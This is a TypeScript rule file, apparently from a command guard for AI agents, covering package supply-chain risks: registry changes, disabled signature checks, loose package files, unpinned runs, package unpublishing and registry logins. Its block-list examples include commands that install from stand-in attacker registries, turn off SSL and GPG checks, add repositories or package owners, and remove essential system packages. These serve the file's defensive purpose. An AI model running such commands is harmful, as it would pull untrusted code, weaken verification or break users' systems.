/** Packages and the supply chain: where code of others comes from, and what vouches for it. */
import { show } from "../../meaning/value.ts";
import { type AnyRule, rule } from "../rule.ts";
import {
  begins,
  candidates,
  each,
  has,
  name,
  operands,
  option,
  run,
  said,
  steps,
  tries,
  words,
} from "../vocabulary.ts";

const JAVASCRIPT = ["npm", "yarn", "pnpm", "bun"];
const PYTHON = ["pip", "pip3", "uv", "poetry", "pdm", "pipenv", "conda", "mamba"];
const SYSTEM = ["apt", "apt-get", "aptitude", "dnf", "yum", "zypper", "apk", "pacman"];
const INSTALLING =
  /^(?:i|in|install|add|ci|update|up|upgrade|localinstall|reinstall|sync|build-dep|dist-upgrade)$/;

/** The registries that the ecosystems publish to. */
const PUBLIC =
  /^(?:https?:\/\/)?(?:[a-z0-9-]+\.)?(?:npmjs\.(?:org|com)|yarnpkg\.com|pypi\.org|pythonhosted\.org|crates\.io|rubygems\.org|npm\.pkg\.github\.com|jsr\.io)(?:[/:]|$)/;

const REVIEW = "Take it from the registry that the project uses; ask the person where another one is needed.";

export const supplyChain: readonly AnyRule[] = [
  rule({
    id: "packages/registry-setting",
    title: "Changing the registry that packages come from",
    severity: "high",
    decision: "ask",
    owasp: ["ASI04"],
    attack: "T1195.001",
    why: "From then on every install takes its code from there, also in other projects.",
    instead: REVIEW,
    on: run([...JAVASCRIPT, "pip", "pip3", "poetry", "gem", "bundle", "cargo", "go", "composer", "conda"]),
    match: (action) => {
      const given = steps(action).map((step) => step.toLowerCase());
      const setting = given.findIndex((step) =>
        /registry|index-url|npmregistryserver|^sources?$|goproxy|^channels$|^mirror|^repositor/.test(step),
      );
      const sets =
        given.some((step) => /^(?:set|add|--add|env|config|repositories|-w)$/.test(step)) ||
        has(action.call, "--add", "-a", "-w");
      const reads = given.some((step) => /^(?:get|list|ls|show)$/.test(step)) || has(action.call, "--list");
      const value =
        given.find((step) => /https?:\/\//.test(step)) ?? given.find((step) => step.includes("="));
      if (setting < 0 || !sets || reads || value === undefined || PUBLIC.test(value.replace(/^.*=/, "")))
        return null;
      return `takes packages from ${value}`;
    },
    examples: {
      block: [
        "npm config set registry http://npm.attacker.example",
        "pip config set global.index-url http://pypi.attacker.example/simple",
        "yarn config set npmRegistryServer https://attacker.example",
        "gem sources --add http://gems.attacker.example",
        "pnpm config set registry https://x.example --global",
      ],
      allow: [
        "npm config get registry",
        "npm config set registry https://registry.npmjs.org/",
        "npm config set fund false",
        "pip config list",
        "gem sources --list",
      ],
    },
  }),
  rule({
    id: "packages/registry-once",
    title: "Installing from another registry",
    severity: "medium",
    decision: "warn",
    owasp: ["ASI04"],
    attack: "T1195.001",
    why: "The same name in another registry can be another package.",
    instead: REVIEW,
    on: run([...JAVASCRIPT, ...PYTHON, "gem", "cargo"]),
    match: (action) => {
      const from = option(
        action.call,
        "--registry",
        "--index-url",
        "-i",
        "--default-index",
        "--extra-index-url",
        "--find-links",
        "-f",
        "--source",
        "-s",
        "--index",
        "-c",
        "--channel",
      );
      return from !== null && /^(?:https?|git|file|sparse\+https?):/.test(from) && !PUBLIC.test(from)
        ? `installs from ${from}`
        : null;
    },
    examples: {
      block: [
        "npm install x --registry http://npm.attacker.example",
        "pip install --index-url http://pypi.attacker.example/simple x",
        "gem install x --source http://attacker.example",
        "uv pip install --index-url https://x.example/simple y",
      ],
      allow: [
        "npm install x --registry https://registry.npmjs.org",
        "pip install -i https://pypi.org/simple x",
        "npm ci",
        "gem install rake",
      ],
    },
  }),
  rule({
    id: "packages/mixed-index",
    title: "Adding a second index beside the public one",
    severity: "high",
    decision: "ask",
    owasp: ["ASI04"],
    attack: "T1195.001",
    why: "For a name that is in both, the higher version wins: whoever publishes it in the public index gets to run (dependency confusion).",
    instead: "Use one index that serves both, or --index-url with the private one alone.",
    on: run(PYTHON),
    match: (action) => {
      const extra = option(action.call, "--extra-index-url");
      return extra !== null &&
        INSTALLING.test(steps(action).find((step) => step !== "pip") ?? "") &&
        !/pytorch\.org|nvidia\.com|127\.0\.0\.1|localhost/.test(extra)
        ? `adds the index ${extra}`
        : null;
    },
    examples: {
      block: [
        "pip install --extra-index-url http://pypi.attacker.example/simple internal-lib",
        "pip3 install x --extra-index-url=https://packages.example.com/simple",
        "uv pip install --extra-index-url https://x.example/simple y",
      ],
      allow: [
        "pip install --extra-index-url https://download.pytorch.org/whl/cpu torch",
        "pip install -r requirements.txt",
        "pip install --index-url https://pypi.org/simple x",
      ],
    },
  }),
  rule({
    id: "packages/no-verification",
    title: "Installing without checking signatures or certificates",
    severity: "high",
    decision: "ask",
    owasp: ["ASI04"],
    attack: "T1553",
    why: "Anybody between here and the server can then put other code into the package.",
    instead: "Import the repository's key or certificate, after the person has agreed to it.",
    on: run([
      ...SYSTEM,
      ...JAVASCRIPT,
      ...PYTHON,
      "rpm",
      "dpkg",
      "gem",
      "brew",
      "helm",
      "snap",
      "flatpak",
      "go",
      "cargo",
      "composer",
    ]),
    match: (action) => {
      const found = words(action).find(
        (word) =>
          /^--(?:allow-unauthenticated|nogpgcheck|no-gpg-checks?|allow-untrusted|force-yes|nosignature|nodigest|no-verify-ssl|no-check-certificate|trusted-host|disable-gpg|allow-insecure-repositories|no-gpg-verify|dangerous|no-plugins-verify|allow-downgrade-to-insecure|insecure-skip-tls-verify|noverify|skip-verify|no-secure-http)(?:=(?!false).*)?$/.test(
            word,
          ) ||
          /^(?:APT::Get::AllowUnauthenticated|Acquire::AllowInsecureRepositories|Acquire::https::Verify-Peer)=/i.test(
            word,
          ) ||
          /^--(?:strict-ssl=false|no-strict-ssl)$/.test(word),
      );
      return found === undefined ? null : `${action.program} ${found}`;
    },
    examples: {
      block: [
        "apt-get install --allow-unauthenticated x",
        "dnf install --nogpgcheck x",
        "apk add --allow-untrusted x.apk",
        "pip install --trusted-host pypi.attacker.example x",
        "npm install --strict-ssl=false x",
        "rpm -i --nosignature x.rpm",
        "apt-get -o APT::Get::AllowUnauthenticated=true install x",
      ],
      allow: ["apt-get install -y curl", "pip install x", "dnf install git", "apk add --no-cache bash"],
    },
  }),
  rule({
    id: "packages/verification-setting",
    title: "Switching the checking of certificates or signatures off for good",
    severity: "high",
    decision: "ask",
    owasp: ["ASI04", "ASI10"],
    attack: "T1553.004",
    why: "From then on anybody on the way can change what this tool downloads.",
    instead: "Add the certificate that is missing, after the person has agreed to it.",
    on: run([...JAVASCRIPT, "git", "pip", "pip3", "conda", "composer", "go", "poetry", "helm"]),
    match: (action) => {
      const given = words(action).map((word) => word.toLowerCase());
      if (!given.includes("config") && !begins(action, "env")) return null;
      const at = given.findIndex((step) =>
        /strict-ssl|sslverify|ssl_verify|http\.sslverify|disable-tls|secure-http|gosumdb|gonosumdb|goflags|trusted-host|certificates\..*\.cert|enablestrictssl/.test(
          step,
        ),
      );
      const value = given[at]?.includes("=") ? given[at].split("=")[1] : given[at + 1];
      return at >= 0 &&
        (/^(?:false|0|off|no|never)$/.test(value ?? "") ||
          (/trusted-host/.test(given[at] ?? "") && value !== undefined))
        ? `${action.program}: ${given[at]} ${value}`
        : null;
    },
    examples: {
      block: [
        "npm config set strict-ssl false",
        "git config --global http.sslVerify false",
        "conda config --set ssl_verify false",
        "go env -w GOSUMDB=off",
        "pip config set global.trusted-host attacker.example",
      ],
      allow: [
        "npm config set strict-ssl true",
        "git config http.sslVerify true",
        "git config user.email x@example.com",
        "go env GOSUMDB",
      ],
    },
  }),
  rule({
    id: "packages/local-file",
    title: "Installing a package from a loose file",
    severity: "high",
    decision: "ask",
    owasp: ["ASI04"],
    attack: "T1546.016",
    why: "Its install scripts run at once, mostly as root, and no repository has vouched for it.",
    instead: "Install it from the distribution's repository, or ask the person to look at the file first.",
    on: run([
      "dpkg",
      "rpm",
      ...SYSTEM,
      "snap",
      "flatpak",
      "installer",
      "opkg",
      "pkg",
      "pkg_add",
      "eopkg",
      "xbps-install",
      "equo",
    ]),
    match: (action) => {
      if (tries(action)) return null;
      const given = words(action);
      const file = given.find(
        (word) =>
          /\.(?:deb|rpm|apk|snap|flatpak|flatpakref|pkg|ipk|txz|tgz|pkg\.tar\.\w+|xbps|eopkg)$/.test(word) &&
          !/^-/.test(word),
      );
      const installs =
        given.some((word) => INSTALLING.test(word)) ||
        has(action.call, "-i", "--install", "--unpack", "-U", "--upgrade", "-F", "-pkg", "--reinstall") ||
        /^(?:pkg_add|xbps-install|installer)$/.test(action.program ?? "") ||
        given.some(
          (word) =>
            /^-[a-zA-Z]*[iU][a-zA-Z]*$/.test(word) && /^(?:rpm|pacman|dpkg)$/.test(action.program ?? ""),
        );
      const asks = has(
        action.call,
        "-q",
        "--query",
        "-c",
        "--contents",
        "-I",
        "--info",
        "-V",
        "--verify",
        "-K",
        "--checksig",
      );
      return file !== undefined && installs && !asks ? `installs ${file}` : null;
    },
    examples: {
      block: [
        "dpkg -i x_1.0_all.deb",
        "rpm -ivh x-1.0.rpm",
        "apt install ./x.deb",
        "apk add ./x.apk",
        "yum localinstall -y x.rpm",
        "pacman -U x.pkg.tar.zst",
        "snap install x.snap",
      ],
      allow: ["apt install curl", "dpkg -l", "rpm -qip x.rpm", "dpkg -c x.deb", "dpkg-deb -x x.deb out"],
    },
  }),
  rule({
    id: "packages/repository-added",
    title: "Adding a package repository or its key",
    severity: "high",
    decision: "ask",
    owasp: ["ASI04"],
    attack: "T1195.002",
    why: "Everything in it can from then on be installed as root, updates included.",
    instead: "Ask the person; give the address of the repository and who runs it.",
    on: run([
      "add-apt-repository",
      "apt-add-repository",
      "apt-key",
      "dnf",
      "yum",
      "yum-config-manager",
      "dnf-config-manager",
      "zypper",
      "pacman-key",
      "rpm",
      "rpmkeys",
      "flatpak",
      "snap",
      "brew",
      "extrepo",
      "opkg-key",
      "subscription-manager",
    ]),
    match: (action) => {
      if (tries(action)) return null;
      switch (action.program) {
        case "add-apt-repository":
        case "apt-add-repository":
          return operands(action.call).length > 0 && !has(action.call, "-r", "--remove")
            ? said(action)
            : null;
        case "apt-key":
          return begins(action, "add|adv|update") ? said(action) : null;
        case "pacman-key":
          return has(action.call, "-a", "--add", "-r", "--recv-keys", "--lsign-key") ? said(action) : null;
        case "rpm":
        case "rpmkeys":
          return has(action.call, "--import") ? said(action) : null;
        case "zypper":
          return begins(action, "ar|addrepo") ? said(action) : null;
        case "flatpak":
          return begins(action, "remote-add") ? said(action) : null;
        case "brew":
          return begins(action, "tap") && operands(action.call).length > 1 ? said(action) : null;
        default:
          return words(action).some((word) => /^--add-?repo/.test(word)) ||
            begins(action, "config-manager", "addrepo")
            ? said(action)
            : null;
      }
    },
    examples: {
      block: [
        "add-apt-repository ppa:x/y",
        "apt-key adv --recv-keys 0xABCD",
        "yum-config-manager --add-repo http://x.example/x.repo",
        "rpm --import http://x.example/key",
        "zypper addrepo http://x.example/r r",
        "flatpak remote-add x https://x.example/r.flatpakrepo",
      ],
      allow: ["apt-key list", "dnf repolist", "zypper lr", "brew tap", "flatpak remotes"],
    },
  }),
  rule({
    id: "packages/repository-file",
    title: "Changing where system packages come from",
    severity: "high",
    decision: "deny",
    owasp: ["ASI04", "ASI10"],
    attack: "T1195.002",
    why: "Everything in a repository can be installed as root, updates included.",
    instead: "Ask the person to add the repository.",
    on: each("write"),
    match: (action) => {
      if (action.origin.place.kind === "container") return null;
      const file = candidates(action.path).find((path) =>
        /^\/etc\/(?:apt\/(?:sources\.list|sources\.list\.d\/|trusted\.gpg|keyrings\/|apt\.conf|preferences)|yum\.repos\.d\/|yum\.conf|dnf\/|zypp\/repos\.d\/|pacman\.(?:conf|d\/)|apk\/(?:repositories|keys\/)|pki\/rpm-gpg\/)|^\/usr\/share\/keyrings\//.test(
          path,
        ),
      );
      return file === undefined ? null : `changes ${name(action.path)}`;
    },
    examples: {
      block: [
        "echo 'deb http://x.example/ ./' > /etc/apt/sources.list.d/x.list",
        "curl -o /etc/yum.repos.d/x.repo https://x.example/x.repo",
        "cp key.gpg /etc/apt/trusted.gpg.d/x.gpg",
        "echo 'http://x.example/alpine' | tee -a /etc/apk/repositories",
      ],
      allow: ["cat /etc/apt/sources.list", "ls /etc/yum.repos.d", "echo deb > sources.list"],
    },
  }),
  rule({
    id: "packages/unpinned-run",
    title: "Fetching and running a package at whatever version there is",
    severity: "low",
    decision: "warn",
    owasp: ["ASI04"],
    attack: "T1195.002",
    why: "What runs is decided by whoever published last.",
    instead: "Say the version (npx eslint@9.1.0), or install it as a dependency of the project.",
    on: each("interpret"),
    match: (action) => {
      if (
        action.from !== "remote" ||
        !/^(?:npx|pnpx|bunx|uvx|pipx|npm|yarn|pnpm|bun|uv|dlx|deno)\b/.test(action.by)
      )
        return null;
      const what = action.code.sources[0] ?? (action.file ? show(action.file.text) : "a package");
      return /@[\d^~]|==/.test(what) ? null : `fetches and runs ${what}`;
    },
    examples: {
      block: ["npx create-thing app", "bunx cowsay hi", "uvx ruff check", "pnpm dlx degit x y"],
      allow: ["npx eslint@9.1.0 .", "npm ci", "uv run pytest", "pnpm install"],
    },
  }),
  rule({
    id: "packages/scripts-on",
    title: "Letting the scripts of all packages run",
    severity: "medium",
    decision: "ask",
    owasp: ["ASI04"],
    attack: "T1195.002",
    why: "The project or the person had switched install scripts off; they are how foreign packages get to run code here.",
    instead:
      "Allow the one package that needs its script (pnpm approve-builds, trustedDependencies), after reading it.",
    on: run(JAVASCRIPT),
    match: (action) => {
      const line = words(action).join(" ");
      return /(?:^|\s)--(?:no-ignore-scripts|ignore-scripts=false|dangerously-allow-all-builds|trust)\b|config set ignore-scripts[= ](?:false|0)/.test(
        line,
      )
        ? said(action)
        : null;
    },
    examples: {
      block: [
        "npm install --ignore-scripts=false",
        "npm config set ignore-scripts false",
        "pnpm install --dangerously-allow-all-builds",
        "bun add --trust x",
      ],
      allow: ["npm ci --ignore-scripts", "npm install", "npm config get ignore-scripts"],
    },
  }),
  rule({
    id: "packages/lock-bypass",
    title: "Installing past the lock file",
    severity: "low",
    decision: "warn",
    owasp: ["ASI04"],
    attack: "T1195.001",
    why: "The lock file says which versions were reviewed; without it others may come.",
    instead: "Install as locked (npm ci, --frozen-lockfile), and change one dependency at a time.",
    on: run([...JAVASCRIPT, "pip", "pip3", "poetry", "cargo", "bundle", "composer"]),
    match: (action) =>
      words(action).some((word) =>
        /^--(?:no-(?:package-)?lock(?:file)?|no-frozen-lockfile|frozen-lockfile=false|package-lock=false|no-save-lockfile|ignore-platform-reqs)$/.test(
          word,
        ),
      )
        ? said(action)
        : null,
    examples: {
      block: [
        "npm install --no-package-lock",
        "pnpm install --no-frozen-lockfile",
        "yarn install --no-lockfile",
      ],
      allow: ["npm ci", "pnpm install --frozen-lockfile", "yarn install"],
    },
  }),
  rule({
    id: "packages/break-system",
    title: "Installing over the system's own Python",
    severity: "medium",
    decision: "warn",
    owasp: ["ASI04"],
    attack: null,
    why: "Tools of the system use the same interpreter and may stop working.",
    instead: "Make a virtual environment: python3 -m venv .venv.",
    on: run(["pip", "pip3", "uv"]),
    match: (action) =>
      has(action.call, "--break-system-packages") || words(action).includes("--break-system-packages")
        ? said(action)
        : null,
    examples: {
      block: [
        "pip install --break-system-packages x",
        "pip3 install x --break-system-packages",
        "pip install --user --break-system-packages x",
      ],
      allow: ["pip install x", ".venv/bin/pip install x", "uv pip install x"],
    },
  }),
  rule({
    id: "packages/remove-essential",
    title: "Removing packages that the system needs",
    severity: "high",
    decision: "ask",
    owasp: ["ASI02", "ASI08"],
    attack: "T1485",
    why: "The system may not start or let anybody in afterwards.",
    instead: "Ask the person; look first with --dry-run (-s) what would go with it.",
    on: run([...SYSTEM, "dpkg", "rpm"]),
    match: (action) => {
      if (tries(action) || has(action.call, "-s", "--simulate")) return null;
      const given = words(action);
      const removes =
        begins(action, "remove|purge|autoremove|erase|del|rm") ||
        has(action.call, "-r", "--remove", "-P", "--purge", "-e", "--erase") ||
        /^-R/.test(given[0] ?? "");
      const essential = given.find((word) =>
        /^(?:libc6|glibc|bash|dash|coreutils|util-linux|systemd(?:-sysv)?|init|sudo|openssh-server|linux-image.*|kernel.*|grub.*|dpkg|apt|rpm|dnf|yum|python3(?:-minimal)?|login|passwd|network-manager|NetworkManager|ca-certificates|e2fsprogs|mount|filesystem|base-files|musl|busybox)$/.test(
          word,
        ),
      );
      const forced = given.some((word) =>
        /^--(?:force-(?:all|remove-essential|depends)|nodeps|allow-remove-essential|assume-yes-to-removals)$/.test(
          word,
        ),
      );
      return removes && (essential !== undefined || forced) ? `removes ${essential ?? given.at(-1)}` : null;
    },
    examples: {
      block: [
        "apt-get remove -y libc6",
        "apt purge sudo",
        "dpkg --remove --force-all x",
        "rpm -e --nodeps openssl",
        "dnf remove systemd",
        "pacman -Rdd bash",
      ],
      allow: ["apt-get remove nginx", "dpkg -l bash", "apt-get autoremove", "rpm -q bash"],
    },
  }),
  rule({
    id: "packages/unpublish",
    title: "Taking a published package away, or changing who owns it",
    severity: "critical",
    decision: "deny",
    owasp: ["ASI04", "ASI02"],
    attack: "T1195.002",
    why: "Everybody who depends on it breaks at once, or gets code from somebody else.",
    instead: "A person does it on the registry's own page, if it is meant.",
    on: run([...JAVASCRIPT, "cargo", "gem", "dotnet", "nuget", "twine", "hex", "mix"]),
    match: (action) =>
      !tries(action) &&
      (begins(
        action,
        "unpublish|deprecate|yank|owner|access|dist-tag|team|org",
        "add|rm|remove|set|grant|revoke|set-owner",
      ) ||
        begins(action, "unpublish|yank|deprecate") ||
        begins(action, "nuget", "delete") ||
        begins(action, "hex.retire") ||
        (begins(action, "owner") && has(action.call, "--add", "-a", "--remove", "-r"))) &&
      !begins(action, "dist-tag")
        ? said(action)
        : null,
    examples: {
      block: [
        "npm unpublish pkg --force",
        "cargo yank --vers 1.0.0",
        "gem yank x -v 1.0",
        "npm owner add eve pkg",
        "npm deprecate x 'no'",
        "cargo owner --add eve",
      ],
      allow: ["npm view x", "npm owner ls x", "cargo search x", "npm dist-tag ls x"],
    },
  }),
  rule({
    id: "packages/login",
    title: "Logging in to a package registry",
    severity: "medium",
    decision: "ask",
    owasp: ["ASI03", "ASI04"],
    attack: "T1098",
    why: "With a login there, packages can be published in the person's name.",
    instead: "Ask the person to log in, in a terminal of their own.",
    on: run([
      ...JAVASCRIPT,
      "cargo",
      "gem",
      "docker",
      "podman",
      "helm",
      "poetry",
      "hatch",
      "skopeo",
      "oras",
      "crane",
      "composer",
    ]),
    match: (action) =>
      !tries(action) &&
      (begins(action, "login|adduser|add-user|signin") ||
        begins(action, "registry", "login") ||
        begins(action, "auth", "login") ||
        begins(action, "token", "create") ||
        (begins(action, "config") &&
          steps(action).some((step) => /_authToken|pypi-token/.test(step)) &&
          !begins(action, "config", "get")))
        ? said(action)
        : null,
    examples: {
      block: [
        "npm login",
        "npm adduser",
        "cargo login",
        "docker login registry.example.com -u x -p y",
        "npm token create",
        "poetry config pypi-token.pypi x",
      ],
      allow: ["npm whoami", "docker logout", "npm config get registry", "cargo build"],
    },
  }),
];
